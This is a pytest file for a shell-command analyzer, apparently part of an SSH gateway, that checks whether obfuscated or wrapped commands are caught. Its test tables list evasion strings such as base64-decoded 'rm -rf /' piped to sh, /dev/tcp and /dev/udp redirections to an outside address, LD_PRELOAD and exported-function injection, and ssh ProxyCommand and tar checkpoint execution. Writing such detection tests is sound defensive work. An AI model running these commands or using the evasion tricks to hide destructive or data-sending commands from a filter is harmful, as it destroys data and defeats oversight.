"""Threat model SSH-05, SSH-06, SSH-08 and K-09 at the analysis: what hides a command is seen through or is not complete.

A row never says "complete" without naming the program that would run. Rows are never removed.
"""

import pytest

from doorward_core.model import Action
from doorward_core.shell.analyze import analyze, analyze_words

UNREADABLE = {
    "printf in a substitution": r"$(printf '\162\155') -rf /srv",
    "decoded script": 'bash -c "$(echo cm0gLXJmIC8=|base64 -d)"',
    "decoded script on standard input": "echo cm0gLXJmIC8= | base64 -d | sh",
    "here-document to a shell": "sh <<E\nrm -rf /srv\nE",
    "here-document": "cat <<'E'\n$(rm x)\nE",
    "here-string to a shell": "bash <<< 'rm x'",
    "eval of a variable": 'eval "$x"',
    "eval of a substitution": 'eval "$(cat x)"',
    "alias": "alias ls='rm x'\nls",
    "separator from IFS": "rm${IFS}-rf${IFS}/srv",
    "own IFS": "IFS=x; axb",
    "own IFS before a command": "IFS=, ls",
    "glob as a program": "/bin/r? x",
    "bracket glob as a program": "/bin/[r]m x",
    "brace list as a command": "{rm,-rf,x}",
    "tilde as a program": "~/bin/x",
    "history expansion": "!rm",
    "history word": "!!",
    "line continuation in a word": "r\\\nm x",
    "line continuation between words": "rm \\\n-rf x",
    "line continuation in quotes": '"r\\\nm" x',
    "python code": "python -c 'import os; os.system(\"rm x\")'",
    "python3 with a version": "/usr/bin/python3.11 -c x",
    "python on standard input": "python3 -",
    "python without anything": "python3",
    "python from a stream": "python3 /dev/stdin",
    "python from a descriptor": "python3 /proc/self/fd/0",
    "perl code": "perl -e 'unlink x'",
    "perl code in a cluster": "perl -ne 'unlink x'",
    "ruby code": "ruby -e x",
    "node code": "node -e x",
    "awk code": "awk 'BEGIN{system(\"rm x\")}'",
    "awk with a variable": "awk -v x=y -f f",
    "sed that executes": "sed '1e rm x' f",
    "sed that executes what it replaced": "sed 's/a/rm x/e' f",
    "sed that writes": "sed -n 'w /etc/x' f",
    "busybox shell": "busybox sh",
    "busybox shell with code in a variable": 'busybox sh -c "$x"',
    "shell on standard input": "sh",
    "shell told to read standard input": "bash -s",
    "interactive shell": "bash -i",
    "shell with a startup file": "bash --rcfile x",
    "escape in a dollar quote": r"$'\x72m' x",
    "quote in a dollar quote": r"echo $'\'; rm x #'",
    "translated quote": '$"rm" x',
    "process substitution": "diff <(ls) <(rm x)",
    "output process substitution": "ls > >(rm x)",
    "sourced process substitution": ". <(echo rm x)",
    "coproc": "coproc rm x",
    "function": "ls() { rm x; }; ls",
    "function with a keyword": "function ls { rm x; }; ls",
    "trap": "trap 'rm x' EXIT",
    "network as a file": "exec 3<>/dev/tcp/198.51.100.7/443",
    "network as a source": "cat < /dev/tcp/198.51.100.7/443",
    "network as a sink": "cat x > /dev/udp/198.51.100.7/53",
    "variable as a program": "$x",
    "positional parameters": "sh -c '\"$@\"' x rm y",
    "parameter transformation": "ls ${x@P}",
    "default with a substitution": "ls ${x:-$(rm x)}",
    "arithmetic with a subscript": "ls $((a[$(rm x)]))",
    "subscript in test": "test -v 'a[$(rm x)]'",
    "subscript in [": "[ -v 'a[$(rm x)]' ]",
    "subscript in printf": "printf -v 'a[$(rm x)]' x",
    "subscript in unset": "unset 'a[$(rm x)]'",
    "let": "let 'a[$(rm x)]=1'",
    "mapfile callback": "mapfile -C 'rm x' -c 1 a",
    "source": ". ./x",
    "builtin enabled from a file": "enable -f x y",
    "hashed path": "hash -p /tmp/x ls; ls",
    "export": "export PATH=/tmp; ls",
    "assignment that stays": "PATH=/tmp; ls",
    "loop variable that is PATH": "for PATH in /tmp; do ls; done",
    "loop": "for x in rm ls; do $x y; done",
    "select": "select x in a; do rm x; done",
    "case": "case a in a) rm x;; esac",
    "double bracket": "[[ -v a ]]",
    "double parenthesis": "((x))",
    "both streams": "ls &> /etc/x",
    "both streams, csh's way": "ls >& /etc/x",
    "digits before a redirection": "ls 12>x",
    "variable as a descriptor": "ls {x}>y",
    "numeric pattern of zsh": "ls <1-9>x",
    "equals of zsh": "=ls",
    "precommand of zsh": "noglob rm x",
    "job as a program": "%1",
    "back-quote with an escape": "`r\\m x`",
    "quote in a quoted back-quote": '"`echo "rm x"`"',
    "carriage return": "ls\rrm x",
    "NUL": "ls\0rm x",
    "escape character": "ls \x1b]52;c;x\a",
    "bidirectional override": "ls \u202ex",
    "blank that is none": "ls\u00a0x",
    "not UTF-8": "ls \udcff",
    "second half of a character elsewhere": "echo \u30bd|rm x",
    "unclosed": "ls 'x",
    "path with dots": "/bin/../tmp/rm x",
    "redirection with dots": "ls > /srv/../etc/x",
    "redirection to a variable": "ls > $x",
    "folder that moves": "cd /tmp && ./x",
    "folder that moves under a redirection": "cd /tmp; ls > x",
    "sudo shell": "sudo -s",
    "sudo login": "sudo -i rm x",
    "sudo editor": "sudo -e x",
    "sudo with a variable": "sudo LD_PRELOAD=x ls",
    "env with a split string": "env -S 'rm x'",
    "env in another folder": "env --chdir=/tmp ./x",
    "env with a variable": "env PATH=/tmp ls",
    "env with a shell function": "env 'BASH_FUNC_ls%%=() { rm x; }' ls",
    "xargs of a shell": "echo 'rm x' | xargs sh -c",
    "xargs of a program that it is told": "echo rm | xargs -I X X y",
    "xargs into shell text": "ls | xargs -I X sh -c 'ls X'",
    "find with a predicate that looks like -exec": "find . -name -exec ! -exec rm {} \\;",
    "find with words of the shell's": "find $x",
    "find of a shell": "find . -exec sh -c '{}' \\;",
    "strace into a program": "strace -o '|rm x' ls",
    "ssh with a proxy": "ssh -o ProxyCommand='rm x' h ls",
    "ssh with an option behind": "ssh h -o ProxyCommand=x ls",
    "ssh shell": "ssh h",
    "tar with a program": "tar cf x y --checkpoint=1 --checkpoint-action=exec=sh",
    "tar with a shortened option": "tar xf x --to-c=sh",
    "tar with a compressor": "tar -cIsh -f x y",
    "tar with names from the target": "tar cf x *",
    "git with configuration": "git -c core.pager='rm x' log",
    "rsync with a program": "rsync -e 'sh -c x' a b",
    "su": "su - root",
    "parallel": "parallel rm ::: x",
    "at": "echo 'rm x' | at now",
    "dynamic linker": "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
    "editor": "vi x",
    "PowerShell": "pwsh -c x",
    "csh": "csh -c 'rm x'",
    "database client": "psql -c 'drop table x'",
}
SEEN_THROUGH = {
    "quotes in a name": 'r""m -rf x',
    "quotes around a name": "'rm' x",
    "escaped name": "\\rm x",
    "path": "/bin/rm x",
    "path with slashes": "//usr///bin/./rm x",
    "command": "command rm x",
    "exec": "exec rm x",
    "builtin shape": "builtin rm x",
    "eval of plain words": "eval 'r''m' x",
    "new-line instead of a semicolon": "ls\nrm x",
    "background": "ls & rm x",
    "and": "true && rm x",
    "or": "false || rm x",
    "pipe": "ls | rm x",
    "substitution as an argument": "echo $(rm x)",
    "substitution in quotes": 'echo "$(rm x)"',
    "back-quotes": "echo `rm x`",
    "nested substitution": 'echo "$(echo "$(rm x)")"',
    "substitution in a redirection's neighbour": "ls >/tmp/x $(rm x)",
    "subshell": "(rm x)",
    "group": "{ rm x; }",
    "negation": "! rm x",
    "condition": "if rm x; then ls; fi",
    "loop": "while rm x; do ls; done",
    "shell": "sh -c 'rm x'",
    "login shell": "bash -lc 'rm x'",
    "shell in a shell": "bash -c \"sh -c 'rm x'\"",
    "busybox": "busybox rm x",
    "sudo": "sudo -n -u root rm x",
    "sudo's cluster": "sudo -nu root rm x",
    "doas": "doas rm x",
    "env": "env -i LANG=C rm x",
    "nice": "nice -n 19 rm x",
    "ionice": "ionice -c3 rm x",
    "nohup": "nohup rm x &",
    "timeout": "timeout -s KILL 5 rm x",
    "time": "time -p rm x",
    "stdbuf": "stdbuf -o0 rm x",
    "setsid": "setsid -w rm x",
    "xargs": "echo x | xargs -0 rm",
    "find -exec": "find / -name x -exec rm {} +",
    "find -ok": "find / -ok rm {} ;".replace(";", "\\;"),
    "su -c": "su root -c 'rm x'",
    "ssh": "ssh -p 22 h rm x",
    "watch": "watch -n 1 rm x",
    "strace": "strace -f rm x",
    "chroot": "chroot /srv rm x",
    "nsenter": "nsenter -t 1 -m rm x",
    "several": "sudo env LANG=C nice timeout 5 sh -c 'ls; rm x'",
    "comment in front": "# ls\nrm x",
    "locale in front": "LC_ALL=C rm x",
}
VARIABLES = ["LD_PRELOAD=x", "PATH=/tmp", "BASH_ENV=x", "ENV=x", "GIT_SSH_COMMAND=x", "PROMPT_COMMAND=x", "PS4='$(x)'",
             "LC_ALL=ja_JP.SJIS", "LANG=../x", "LC_ALL='\x1b]0;x'", "TZ=/etc/x", "TZ=:/x", "TERM=../x", "PAGER=x", "A+=b",
             "IFS=", "PYTHONPATH=x", "PERL5OPT=x", "EDITOR=x", "HOME=/tmp", "SHELLOPTS=xtrace", "LC_ALL=$x"]  # fmt: skip


@pytest.mark.parametrize("row", UNREADABLE)
def test_ssh_06_what_cannot_be_read_is_not_complete_and_says_why(row):
    analysis = analyze(UNREADABLE[row])
    assert not analysis.complete
    assert analysis.problem


@pytest.mark.parametrize("row", SEEN_THROUGH)
def test_ssh_06_what_is_wrapped_is_named(row):
    analysis = analyze(SEEN_THROUGH[row])
    assert analysis.complete, analysis.problem
    assert "rm" in {command.program for command in analysis.commands}
    assert "rm" in {atom.target.name for atom in analysis.atoms if atom.action is Action.EXECUTE}


@pytest.mark.parametrize("variable", VARIABLES)
def test_ssh_08_a_variable_that_changes_meaning_is_not_complete(variable):
    assert not analyze(f"{variable} ls").complete
    assert analyze("LANG=en_US.UTF-8 LC_CTYPE=C TZ=Europe/Berlin TERM=xterm-256color NO_COLOR=1 ls").complete


@pytest.mark.parametrize(
    ("command", "protocol", "direction", "paths"),
    [
        ("scp -f /srv/a", "scp", "read", ("/srv/a",)),
        ("scp -v -r -p -f -- a b", "scp", "read", ("./a", "./b")),
        ("scp -rt /srv", "scp", "write", ("/srv",)),
        ("rsync --server --sender -vlogDtpre.iLsfxCIvu . /srv/a b", "rsync", "read", ("/srv/a", "./b")),
        ("rsync --server -vlogDtpre.iLsfxCIvu --delete . /srv/", "rsync", "write", ("/srv",)),
        ("sudo rsync --server -e.LsfxCIvu . /srv", "rsync", "write", ("/srv",)),
        ("git-upload-pack '/srv/a.git'", "git", "read", ("/srv/a.git",)),
        ("git-receive-pack 'a.git'", "git", "write", ("./a.git",)),
        ("git upload-archive 'a.git'", "git", "read", ("./a.git",)),
        ("tar cf - /etc/hosts", "tar", "read", ("/etc/hosts",)),
        ("tar xmf - -C /srv", "tar", "write", ("/srv",)),
    ],
)
def test_ssh_05_transfers_are_known_with_their_paths(command, protocol, direction, paths):
    analysis = analyze(command)
    assert analysis.complete, analysis.problem
    assert analysis.transfer is not None
    assert (analysis.transfer.protocol, analysis.transfer.direction, analysis.transfer.paths) == (
        protocol,
        direction,
        paths,
    )
    touched = {atom.target.name for atom in analysis.atoms if atom.target.kind == "path"}
    assert touched == set(paths)
    assert {atom.action for atom in analysis.atoms if atom.target.kind == "path"} == {Action(direction)}
    assert analysis.unseen == ("stdin",)


@pytest.mark.parametrize(
    "command",
    [
        "scp -f *.log",
        "scp -t ~/x",
        "scp -t /srv/../etc",
        "scp -f -t x",
        "scp -t x; ls",
        "scp -t x < y",
        "scp -S sh -f x",
        "rsync --server --sender -e.x --rsh=sh . x",
        "rsync --server --daemon .",
        "rsync --server --log-file=/etc/x -e. . y",
        "rsync --sender --server -e. . y",
        "git-upload-pack --x y",
        "git-receive-pack $x",
        "git-shell -c x",
        "/usr/lib/openssh/sftp-server",
        "sftp-server",
        "internal-sftp",
        "netconf",
    ],
)
def test_ssh_05_what_is_nearly_a_transfer_is_not_complete(command):
    analysis = analyze(command)
    assert not analysis.complete


def test_k_09_words_that_no_shell_reads_are_taken_as_they_are():
    analysis = analyze_words(["ls", "$(rm x)", "*", "a b"])
    assert analysis.complete
    assert [word.plain for word in analysis.commands[0].arguments] == ["$(rm x)", "*", "a b"]
    assert analyze_words(["tar", "xmf", "-", "-C", "/srv"]).transfer is not None
    assert not analyze_words(["sh"]).complete
    assert {item.program for item in analyze_words(["sh", "-c", "ls; rm x"]).commands} == {"sh", "ls", "rm"}
    assert not analyze_words([]).complete
    assert not analyze_words(["ls", "x\0y"]).complete
